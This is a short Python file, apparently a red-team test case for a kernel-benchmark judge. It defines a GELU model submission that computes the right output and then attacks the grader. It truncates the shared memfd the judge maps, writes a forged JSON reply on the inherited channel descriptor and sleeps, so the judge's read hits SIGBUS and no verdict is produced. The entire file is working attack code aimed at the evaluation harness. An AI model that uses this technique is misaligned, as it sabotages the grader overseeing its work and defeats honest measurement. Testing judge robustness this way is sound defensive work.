"""Attack: crash the judge through the output buffer both processes map. The candidate process holds the memfd's
descriptor (KB_SHARED_FD) and the channel's (KB_CHANNEL_FDS): the route truncates the memfd to nothing, then answers
the call itself with a header saying its output lies in the buffer, so that the judge's copy out of the buffer reads
past the end of the file -- SIGBUS in the judge, and no verdict at all."""

import json
import os
import struct
import time

from kernels.problems.new_gelu import Model


class ModelNew(Model):
    def forward(self, x):
        out = super().forward(x)
        os.ftruncate(int(os.environ["KB_SHARED_FD"]), 0)
        meta = {"type": "Tensor", "plain": True, "dtype": "float32", "shape": list(out.shape), "device": "cpu"}
        body = json.dumps({"ok": True, "output": meta, "shared": out.numel() * 4}).encode()
        os.write(int(os.environ["KB_CHANNEL_FDS"].split(",")[1]), struct.pack(">I", len(body)) + body)
        time.sleep(60)  # the judge reads the buffer now
        return out
